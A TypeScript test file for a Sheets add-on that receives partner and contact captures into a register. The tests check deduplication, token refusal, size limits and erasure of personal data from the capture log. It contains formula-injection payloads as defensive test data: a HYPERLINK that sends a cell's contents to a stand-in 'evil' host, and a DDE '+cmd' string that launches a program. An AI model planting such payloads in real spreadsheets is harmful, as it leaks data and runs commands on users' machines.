import { beforeEach, describe, expect, it } from 'vitest';
import {
  MAX_BODY_BYTES,
  MAX_CAPTURES_PER_REQUEST,
  MAX_FIELD_LENGTH,
} from '../../../../shared/capture/limits';
import type { Capture, CaptureReply, IndexReply, PingReply } from '../../../../shared/capture/protocol';
import { pairingTokenFromUuids } from '../../../../shared/capture/token';
import { handleGet, handlePost } from '../../../../sheets-addon/core/capture/captureHandler';
import { forgetCaptureRows, readCaptureLog } from '../../../../sheets-addon/core/capture/captureLog';
import { MemoryWorkbook } from '../../../../sheets-addon/core/memoryWorkbook';
import { readRegister } from '../../../../sheets-addon/core/readRegister';
import { registerFormulaLayer } from '../../../../sheets-addon/core/registerFormulaLayer';
import { PROPERTY } from '../../../../sheets-addon/core/registerProperties';
import { removePerson } from '../../../../sheets-addon/core/removePerson';
import { setupOrRepair } from '../../../../sheets-addon/core/setupOrRepair';

const NOW = '2026-11-25T08:00:00.000Z';
const TOKEN = pairingTokenFromUuids(crypto.randomUUID(), crypto.randomUUID());
let workbook: MemoryWorkbook;
const env = () => ({ workbook, layer: registerFormulaLayer, now: () => NOW, registerName: 'Test register' });

function capture(kind: Capture['kind'], fields: Capture['fields'], extra: Partial<Capture> = {}): Capture {
  return {
    id: crypto.randomUUID(),
    kind,
    captured_at: NOW,
    source_url: 'https://www.maerim.ac.th/contact',
    fields,
    ...extra,
  };
}

function post(captures: unknown[], overrides: Record<string, unknown> = {}): CaptureReply {
  return handlePost(JSON.stringify({ version: 1, token: TOKEN, captures, ...overrides }), env());
}

function tables() {
  return readRegister(workbook, ['partners', 'contacts', 'activities']).tables;
}

/** Every cell of every sheet, to show a refused request changed nothing. */
function snapshot(): string {
  return JSON.stringify(workbook.state);
}

beforeEach(() => {
  workbook = new MemoryWorkbook();
  const setup = setupOrRepair(workbook, { layer: registerFormulaLayer, language: 'th', now: NOW });
  expect(setup.ok).toBe(true);
  workbook.setProperties({ [PROPERTY.pairingToken]: TOKEN });
});

describe('receiving captures', () => {
  it('adds a partner, a contact attached to it by capture id, and an activity, in one request', () => {
    const partner = capture('partner', {
      name: 'โรงเรียนแม่ริมวิทยาคม',
      website: 'https://www.maerim.ac.th',
      phone: ['053 297 200 ต่อ 101'],
      email: ['INFO@maerim.ac.th'],
    });
    const contact = capture(
      'contact',
      { name: 'นางสาวสมศรี ใจดี', role: 'ผู้อำนวยการ' },
      { partner_id: partner.id },
    );
    const activity = capture(
      'activity',
      { title: 'อบรมครูวิทยาศาสตร์', date: '15/06/2568', type: 'training' },
      { partner_id: partner.id },
    );
    const reply = post([partner, contact, activity]);
    expect(reply.ok).toBe(true);
    expect(reply.results).toEqual([
      { id: partner.id, outcome: 'added', row_id: 'P-0001' },
      { id: contact.id, outcome: 'added', row_id: 'C-0001' },
      { id: activity.id, outcome: 'added', row_id: 'A-0001' },
    ]);
    const { partners, contacts, activities } = tables();
    expect(partners[0]).toMatchObject({
      id: 'P-0001',
      name: 'โรงเรียนแม่ริมวิทยาคม',
      email: 'info@maerim.ac.th',
      phone: '053-297-200 ต่อ 101',
      source_url: 'https://www.maerim.ac.th/contact',
    });
    expect(contacts[0]).toMatchObject({ id: 'C-0001', partner_id: 'P-0001', role: 'ผู้อำนวยการ' });
    expect(activities[0]).toMatchObject({
      id: 'A-0001',
      partner_ids: 'P-0001',
      date: '2025-06-15',
      type: 'training',
    });
  });

  it('a retried capture is acknowledged as a duplicate, not added twice', () => {
    const partner = capture('partner', { name: 'อบต.ริมใต้', website: 'https://rimtai.go.th' });
    expect(post([partner]).results[0]).toMatchObject({ outcome: 'added', row_id: 'P-0001' });
    expect(post([partner]).results[0]).toEqual({ id: partner.id, outcome: 'duplicate', row_id: 'P-0001' });
    expect(post([partner, partner]).results.map((r) => r.outcome)).toEqual(['duplicate', 'duplicate']);
    expect(tables().partners).toHaveLength(1);
  });

  it('the same capture twice in one batch is added once', () => {
    const contact = capture('contact', { name: 'นายสมชาย รักเรียน' });
    const reply = post([contact, contact]);
    expect(reply.results.map((r) => r.outcome)).toEqual(['added', 'duplicate']);
    expect(reply.results[1].row_id).toBe(reply.results[0].row_id);
    expect(tables().contacts).toHaveLength(1);
  });

  it('a partner already in the register is matched and its empty cells filled, not copied', () => {
    post([capture('partner', { name: 'มหาวิทยาลัยเชียงใหม่', website: 'https://www.cmu.ac.th' })]);
    const again = capture('partner', {
      name: 'Chiang Mai University',
      website: 'https://cmu.ac.th/en',
      email: 'info@cmu.ac.th',
      sector: 'higher_ed',
    });
    const reply = post([again]);
    expect(reply.results[0]).toMatchObject({ outcome: 'matched', row_id: 'P-0001' });
    expect(reply.results[0].reason?.message.en).toMatch(/domain/i);
    const { partners } = tables();
    expect(partners).toHaveLength(1);
    expect(partners[0]).toMatchObject({
      name: 'มหาวิทยาลัยเชียงใหม่',
      email: 'info@cmu.ac.th',
      sector: 'higher_ed',
    });
  });

  it('two captures of one new partner in a batch become one row', () => {
    const first = capture('partner', { name: 'เทศบาลตำบลแม่ริม', email: 'saraban@maerim.go.th' });
    const second = capture('partner', { name: 'เทศบาลตำบลแม่ริม', phone: '053 297 111' });
    const reply = post([first, second]);
    expect(reply.results).toMatchObject([
      { outcome: 'added', row_id: 'P-0001' },
      { outcome: 'matched', row_id: 'P-0001' },
    ]);
    expect(tables().partners[0]).toMatchObject({ email: 'saraban@maerim.go.th', phone: '053-297-111' });
  });

  it('a contact already at the partner is matched by email, not doubled', () => {
    const partner = capture('partner', { name: 'โรงเรียนบ้านดง', website: 'https://bandong.ac.th' });
    post([
      partner,
      capture('contact', { name: 'ครูแดง', email: 'daeng@bandong.ac.th' }, { partner_id: partner.id }),
    ]);
    const again = capture(
      'contact',
      { name: 'ครูแดง ดีใจ', email: ['DAENG@bandong.ac.th'] },
      { partner_id: 'P-0001' },
    );
    expect(post([again]).results[0]).toMatchObject({ outcome: 'matched', row_id: 'C-0001' });
    expect(tables().contacts).toHaveLength(1);
  });

  it('a contact without a partner is attached to the partner its email domain names', () => {
    post([capture('partner', { name: 'โรงเรียนบ้านดง', website: 'https://bandong.ac.th' })]);
    post([capture('contact', { name: 'ครูขาว', email: 'khao@bandong.ac.th' })]);
    expect(tables().contacts[0]).toMatchObject({ partner_id: 'P-0001' });
  });

  it('a note is appended to its partner’s notes with the date and the page it came from', () => {
    post([capture('partner', { name: 'วัดพระธาตุ', notes: 'วัดในชุมชน' })]);
    post([capture('note', { notes: 'เจ้าอาวาสยินดีให้ใช้ศาลา' }, { partner_id: 'P-0001' })]);
    const reply = post([capture('note', { text: '=HYPERLINK("http://evil","x")' }, { partner_id: 'P-1' })]);
    expect(reply.results[0]).toMatchObject({ outcome: 'added', row_id: 'P-0001' });
    expect(tables().partners[0].notes).toBe(
      'วัดในชุมชน\n2026-11-25: เจ้าอาวาสยินดีให้ใช้ศาลา (https://www.maerim.ac.th/contact)\n' +
        '2026-11-25: =HYPERLINK("http://evil","x") (https://www.maerim.ac.th/contact)',
    );
    const partnersSheet = workbook.state.sheets.find((s) => s.name === 'ภาคีเครือข่าย')!;
    expect(partnersSheet.cells.flat().some((cell) => cell.formula?.includes('evil'))).toBe(false);
  });

  it('a note without a partner, or for an unknown one, is rejected with a reason in both languages', () => {
    const reply = post([
      capture('note', { notes: 'x' }),
      capture('note', { notes: 'x' }, { partner_id: 'P-0099' }),
      capture('note', { notes: '  ' }, { partner_id: 'P-0001' }),
    ]);
    expect(reply.results.map((r) => r.reason?.code)).toEqual([
      'capture.partner_required',
      'capture.partner_unknown',
      'capture.note_empty',
    ]);
    expect(reply.results[1].reason?.message.th).toContain('P-0099');
  });

  it('a capture with bad fields is rejected with the reason, the rest of the batch still added, and may be sent again fixed', () => {
    const bad = capture('partner', { name: 'ร้านค้า', email: 'not-an-email' });
    const good = capture('partner', { name: 'บริษัทตัวอย่าง จำกัด' });
    const reply = post([bad, good]);
    expect(reply.results[0].outcome).toBe('rejected');
    expect(reply.results[0].reason?.message.en).toContain('not-an-email');
    expect(reply.results[1]).toMatchObject({ outcome: 'added', row_id: 'P-0001' });
    const fixed = { ...bad, fields: { name: 'ร้านค้า', email: 'shop@example.co.th' } };
    expect(post([fixed]).results[0]).toMatchObject({ outcome: 'added', row_id: 'P-0002' });
  });

  it('stores every injection in the corpus as text, never as a formula', () => {
    const corpus = [
      '=HYPERLINK("http://evil/?"&A1,"click")',
      "+cmd|'/C calc'!A0",
      '@SUM(1+1)*cmd',
      '\t=1',
      '＝1+1',
      '-2+3',
    ];
    const reply = post(corpus.map((text) => capture('partner', { name: text, address: text, notes: text })));
    expect(reply.results.every((r) => r.outcome === 'added')).toBe(true);
    const sheet = workbook.state.sheets.find((s) => s.name === 'ภาคีเครือข่าย')!;
    const formulaTexts = sheet.cells.flat().flatMap((cell) => (cell.formula ? [cell.formula] : []));
    for (const text of corpus) expect(formulaTexts.some((f) => f.includes(text.trim()))).toBe(false);
    const names = tables().partners.map((p) => p.name);
    for (const text of corpus) expect(names).toContain(text.trim());
  });
});

describe('refusing a request leaves the register untouched', () => {
  it('a wrong, missing or rotated token', () => {
    const before = snapshot();
    const wrong = post([capture('partner', { name: 'x' })], {
      token: `${TOKEN.slice(0, -1)}${TOKEN.endsWith('0') ? '1' : '0'}`,
    });
    expect(wrong).toMatchObject({ ok: false, results: [] });
    expect(wrong.error?.code).toBe('capture.token');
    expect(post([capture('partner', { name: 'x' })], { token: undefined }).error?.code).toBe('capture.token');
    workbook.setProperties({ [PROPERTY.pairingToken]: 'f'.repeat(64) });
    expect(post([capture('partner', { name: 'x' })]).error?.code).toBe('capture.token');
    workbook.setProperties({ [PROPERTY.pairingToken]: TOKEN });
    expect(snapshot()).toBe(before);
  });

  it('an old or unknown protocol version, malformed JSON, a body over the size limit, too many captures', () => {
    const before = snapshot();
    expect(post([], { version: 0 }).error?.code).toBe('capture.version');
    expect(post([], { version: '1' }).error?.message.en).toMatch(/version/);
    expect(handlePost('{"version":1,', env()).error?.code).toBe('capture.malformed');
    expect(handlePost('', env()).error?.code).toBe('capture.malformed');
    const big = 'ก'.repeat(Math.ceil(MAX_BODY_BYTES / 3) + 10);
    const oversized = handlePost(JSON.stringify({ version: 1, token: TOKEN, captures: [], pad: big }), env());
    expect(oversized.error?.code).toBe('capture.too_large');
    const many = Array.from({ length: MAX_CAPTURES_PER_REQUEST + 1 }, () =>
      capture('contact', { name: 'x' }),
    );
    expect(post(many).error?.code).toBe('capture.too_many');
    expect(post([{ kind: 'partner' }]).error?.code).toBe('capture.invalid');
    expect(snapshot()).toBe(before);
  });

  it('a field longer than the limit rejects that capture only', () => {
    const long = capture('partner', { name: 'ก'.repeat(MAX_FIELD_LENGTH + 1) });
    const reply = post([long, capture('partner', { name: 'ok' })]);
    expect(reply.results.map((r) => r.outcome)).toEqual(['rejected', 'added']);
    expect(reply.results[0].reason?.code).toBe('capture.invalid');
  });

  it('a register that has not been paired answers exactly as a wrong token is answered', () => {
    const wrongToken = post([capture('partner', { name: 'x' })], { token: 'B'.repeat(43) });
    const wrongPing = handleGet({ op: 'ping', token: 'B'.repeat(43) }, env());
    const wrongIndex = handleGet({ op: 'index', token: 'B'.repeat(43) }, env());
    workbook.setProperties({ [PROPERTY.pairingToken]: null });
    expect(wrongToken.error?.code).toBe('capture.token');
    expect(post([capture('partner', { name: 'x' })], { token: 'B'.repeat(43) })).toEqual(wrongToken);
    expect(post([capture('partner', { name: 'x' })], { token: undefined })).toEqual(wrongToken);
    expect(handleGet({ op: 'ping', token: 'B'.repeat(43) }, env())).toEqual(wrongPing);
    expect(handleGet({ op: 'index', token: 'B'.repeat(43) }, env())).toEqual(wrongIndex);
  });
});

describe('the partner index and ping', () => {
  it('lists partners with domains, emails and phones, and a version that changes when they do', () => {
    post([
      capture('partner', {
        name: 'โรงเรียนบ้านดง',
        website: 'https://www.bandong.ac.th',
        phone: '02-123-4567',
      }),
    ]);
    const first = handleGet({ op: 'index', token: TOKEN }, env()) as IndexReply;
    expect(first.ok).toBe(true);
    expect(first.partners).toEqual([
      { id: 'P-0001', name: 'โรงเรียนบ้านดง', domains: ['bandong.ac.th'], emails: [], phones: ['+6621234567'] },
    ]);
    expect(first.index_version).toBe(
      (handleGet({ op: 'index', token: TOKEN }, env()) as IndexReply).index_version,
    );
    post([capture('contact', { name: 'ครู', email: 'kru@bandong.ac.th' }, { partner_id: 'P-0001' })]);
    const second = handleGet({ op: 'index', token: TOKEN }, env()) as IndexReply;
    expect(second.partners[0].emails).toEqual(['kru@bandong.ac.th']);
    expect(second.index_version).not.toBe(first.index_version);
  });

  it('answers nothing about the register without the token', () => {
    const reply = handleGet({ op: 'index', token: 'nope' }, env()) as IndexReply;
    expect(reply).toMatchObject({ ok: false, partners: [] });
    expect(reply.error?.code).toBe('capture.token');
  });

  it('ping tests the connection and the token', () => {
    expect(handleGet({ op: 'ping', token: TOKEN }, env()) as PingReply).toEqual({
      version: 1,
      ok: true,
      register: 'Test register',
    });
    expect((handleGet({ op: 'ping', token: 'x' }, env()) as PingReply).ok).toBe(false);
    expect(handleGet({ op: 'drop', token: TOKEN }, env()).error?.code).toBe('capture.op_unknown');
  });
});

describe('the capture log', () => {
  it('keeps only ids, times, outcomes and row ids — no personal data — and forgets a removed person', () => {
    const contact = capture('contact', {
      name: 'นางสาวลับ เฉพาะ',
      email: 'secret@example.com',
      phone: '081 234 5678',
    });
    const other = capture('partner', { name: 'โรงเรียนอื่น' });
    post([contact, other]);
    const logSheet = workbook.state.sheets.find((s) => s.name === 'บันทึกการรับข้อมูล')!;
    expect(logSheet.hidden).toBe(true);
    const text = JSON.stringify(logSheet.cells);
    expect(text).not.toContain('secret');
    expect(text).not.toContain('ลับ');
    expect(text).not.toMatch(/081|\+668/);
    expect(readCaptureLog(workbook, 'th').entries.get(contact.id)).toMatchObject({
      row_id: 'C-0001',
      outcome: 'added',
    });
    expect(forgetCaptureRows(workbook, 'th', ['C-0001'])).toBe(1);
    const entries = readCaptureLog(workbook, 'th').entries;
    expect(entries.get(contact.id)).toEqual({
      capture_id: contact.id,
      received_at: '',
      kind: '',
      outcome: 'erased',
      row_id: '',
    });
    expect(entries.get(other.id)).toMatchObject({ outcome: 'added' });
  });

  it('answers a retry of an erased person’s capture as a duplicate, never adding them again', () => {
    const contact = capture('contact', { name: 'นางสาวลับ เฉพาะ', email: 'secret@example.com' });
    post([contact]);
    expect(removePerson(workbook, 'C-0001').ok).toBe(true);
    const retry = post([contact]);
    expect(retry.results[0]).toEqual({ id: contact.id, outcome: 'duplicate' });
    expect(JSON.stringify(workbook.state.sheets)).not.toContain('secret');
  });
});

describe('batching the platform', () => {
  /** Counts every read and write of cell data, by method. */
  function countCalls(book: MemoryWorkbook): Record<string, number> {
    const counts: Record<string, number> = {};
    for (const method of [
      'readValues',
      'readFormulas',
      'writeValues',
      'writeFormulas',
      'appendRows',
      'getProperties',
      'setProperties',
    ] as const) {
      const original = book[method].bind(book) as (...args: unknown[]) => unknown;
      (book as unknown as Record<string, unknown>)[method] = (...args: unknown[]) => {
        counts[method] = (counts[method] ?? 0) + 1;
        return original(...args);
      };
    }
    return counts;
  }

  function mixedBatch(size: number): Capture[] {
    const captures: Capture[] = [];
    for (let i = 0; i < size; i++) {
      const partner = capture('partner', {
        name: `โรงเรียนที่ ${size}-${i}`,
        website: `https://school${size}x${i}.ac.th`,
      });
      captures.push(
        partner,
        capture(
          'contact',
          { name: `ครู ${i}`, email: `kru${i}@school${size}x${i}.ac.th` },
          { partner_id: partner.id },
        ),
        capture('activity', { title: `กิจกรรม ${i}`, date: '2025-06-15' }, { partner_id: partner.id }),
        capture('note', { notes: `บันทึก ${i}` }, { partner_id: 'P-0001' }),
      );
    }
    return captures;
  }

  it('costs the same number of service calls for 4 captures as for 100', () => {
    post([capture('partner', { name: 'ภาคีแรก' })]);
    const small = countCalls(workbook);
    expect(post(mixedBatch(1)).results.every((r) => r.outcome === 'added')).toBe(true);
    const smallCounts = { ...small };
    for (const key of Object.keys(small)) small[key] = 0;
    expect(post(mixedBatch(25)).results.every((r) => r.outcome === 'added')).toBe(true);
    expect(small).toEqual(smallCounts);
    expect(tables().partners).toHaveLength(27);
  });
});

describe('an activity captured with the administrator roles played', () => {
  it('is added with the roles ticked, and an unknown role is rejected with a reason, adding nothing', () => {
    const ticked = capture('activity', {
      title: 'ประชุมวางแผนกับ อบต.',
      date: '2026-06-15',
      admin_roles: 'initiator,coordinator',
    });
    const unknown = capture('activity', { title: 'กิจกรรม', date: '2026-06-15', admin_roles: 'นักร้อง' });
    const reply = post([ticked, unknown]);
    expect(reply.results.map((result) => result.outcome)).toEqual(['added', 'rejected']);
    expect(reply.results[1].reason?.message.th).toContain('บทบาทผู้บริหาร');
    expect(tables().activities.map((row) => row.admin_roles)).toEqual(['initiator,coordinator']);
  });
});
